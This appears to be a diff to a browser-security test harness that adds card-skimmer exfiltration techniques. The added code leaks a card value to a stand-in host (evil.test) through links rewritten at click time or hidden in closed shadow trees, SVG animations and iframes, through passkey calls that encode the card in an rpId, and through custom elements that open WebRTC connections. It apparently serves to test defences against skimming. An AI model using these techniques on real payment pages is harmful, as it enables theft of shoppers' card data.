@@ -22,6 +22,18 @@
   };
   const frame = () => element("iframe", {}).contentWindow;
   const at = (card, scheme = "https") => `${scheme}://${run}.evil.test:${https}/${run}?card=${card}`;
+  // Browsers ask only hosts of known registries whether they let a page use their passkeys: a provider's is the attacker's machine here.
+  const named = (card) => `${card}.${run}.stripe.com`;
+  /** An element that calls out once it is in the page, and whose callback nobody can change. */
+  const sly = (name) => {
+    const port = stun;
+    const get = () => () => call(window[window.length - 1].RTCPeerConnection, port);
+    class Sly extends HTMLElement {}
+    Object.defineProperty(Sly.prototype, "connectedCallback", { get, set() {} });
+    customElements.define(name, Sly);
+    return name;
+  };
+  const place = () => document.querySelector("#place");
   const own = (text) => {
     const made = document.createElement("script");
     made.nonce = nonce;
@@ -95,6 +107,56 @@
       link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
     },
     "link-in-the-page": (card) => element("a", { href: at(card), target: "_blank" }).click(),
+    "link-with-an-argument": (card) => element("a", { href: at(card), target: "_blank" }, null).click(1),
+    "link-rewritten-by-hand"(card) {
+      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
+      link.addEventListener("click", (event) => {
+        event.stopImmediatePropagation();
+        link.href = url;
+      });
+      link.click();
+    },
+    "link-rewritten-by-event"(card) {
+      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" }, null)];
+      link.onclick = () => { link.href = url; };
+      link.dispatchEvent(new MouseEvent("click"));
+    },
+    "link-rewritten-the-second-time"(card) {
+      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
+      const event = new MouseEvent("click", { bubbles: true, cancelable: true });
+      link.addEventListener("click", () => event.preventDefault(), { once: true });
+      link.dispatchEvent(event);
+      link.addEventListener("click", () => { link.href = url; });
+      event.initEvent("click", true, true);
+      link.dispatchEvent(event);
+    },
+    "link-rewritten-by-a-label"(card) {
+      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
+      element("button", { id: "labelled", type: "button" }, link).addEventListener("click", () => { link.href = url; });
+      element("label", { for: "labelled" }).click();
+    },
+    "passkey-of-another": (card) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: named(card) } }),
+    "passkey-for-another": (card) => navigator.credentials.create({
+      publicKey: {
+        challenge: new Uint8Array(16), rp: { id: named(card), name: "x" }, user: { id: new Uint8Array(4), name: "x", displayName: "x" },
+        pubKeyCredParams: [{ type: "public-key", alg: -7 }],
+      },
+    }),
+    "passkey-told-of": (card) => PublicKeyCredential.signalUnknownCredential({ rpId: named(card), credentialId: "AAAA" }),
+    "frame-in-a-range"() {
+      const both = document.createDocumentFragment();
+      both.append(document.createElement("iframe"), document.createElement(sly("x-range")));
+      const range = document.createRange();
+      range.selectNodeContents(element("div", {}));
+      range.insertNode(both);
+    },
+    "frame-in-a-range-around"() {
+      const range = document.createRange();
+      const place = element("div", {});
+      element("iframe", {}, element("p", {}, place));
+      range.selectNodeContents(place);
+      range.surroundContents(document.createElement(sly("x-around")));
+    },
     "frame-while-it-loads"() {
       const port = stun;
       const made = document.createElement("iframe");
@@ -192,8 +254,64 @@
     },
   };
 
-  const go = { ...ways, ...tricks };
-  window.skimmers = { ways: Object.keys(ways), tricks: Object.keys(tricks) };
+  const later = (card) => {
+    const link = element("a", { href: "/blank", target: "_blank" }, place());
+    link.textContent = "Continue to pay";
+    return [link, at(card)];
+  };
+  const shadowed = (card, mode, child) => {
+    const link = element("a", { href: at(card), target: "_blank" }, place().attachShadow({ mode }));
+    link.append(child);
+  };
+  const drawing = (text) => {
+    place().innerHTML = `<svg width="300" height="60">${text.replace("<w/>", '<text y="40" font-size="40">Continue to pay</text>')}</svg>`;
+    return document.querySelector("#place svg");
+  };
+  // Links that wait for a person.
+  const links = {
+    "link-put-in-at-the-click"(card) {
+      const [link, url] = later(card);
+      link.addEventListener("click", () => { link.href = url; });
+    },
+    "link-put-in-behind-the-click"(card) {
+      const [link, url] = later(card);
+      link.removeAttribute("href");
+      window.addEventListener("click", (event) => {
+        event.stopImmediatePropagation();
+        Promise.resolve().then(() => {}).then(() => { link.href = url; });
+      }, true);
+    },
+    "link-in-a-closed-tree": (card) => shadowed(card, "closed", "Continue to pay"),
+    "link-around-a-slot"(card) {
+      place().textContent = "Continue to pay";
+      shadowed(card, "closed", document.createElement("slot"));
+    },
+    "link-in-a-written-tree"(card) {
+      const link = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
+      place().setHTMLUnsafe(`<div><template SHADOWROOTMODE="&#99;losed">${link}</template></div>`);
+    },
+    "link-in-a-frame"(card) {
+      const made = element("iframe", { height: "60" }, place());
+      made.contentDocument.body.innerHTML = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
+    },
+    "link-of-a-picture"(card) {
+      const url = at(card);
+      const link = drawing('<a target="_blank" xlink:href="/blank"><w/></a>').firstChild;
+      link.addEventListener("click", () => link.setAttributeNS("http://www.w3.org/1999/xlink", "href", url));
+    },
+    "link-in-motion": (card) => drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}"/><w/></a>`),
+    "link-put-in-motion"(card) {
+      const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}" begin="indefinite"/><w/></a>`);
+      picture.firstChild.addEventListener("click", () => {
+        picture.querySelector("set").beginElement();
+        picture.setCurrentTime(picture.getCurrentTime() + 1);
+      });
+    },
+    "link-used": (card) => drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g></defs><use href="#used"/>`),
+  };
+
+  const go = { ...ways, ...tricks, ...links };
+  window.skimmers = { ways: Object.keys(ways), tricks: Object.keys(tricks), links: Object.keys(links) };
   if (!wanted.has("")) {
     document.querySelector("#pay").addEventListener("click", (event) => {
       event.preventDefault();
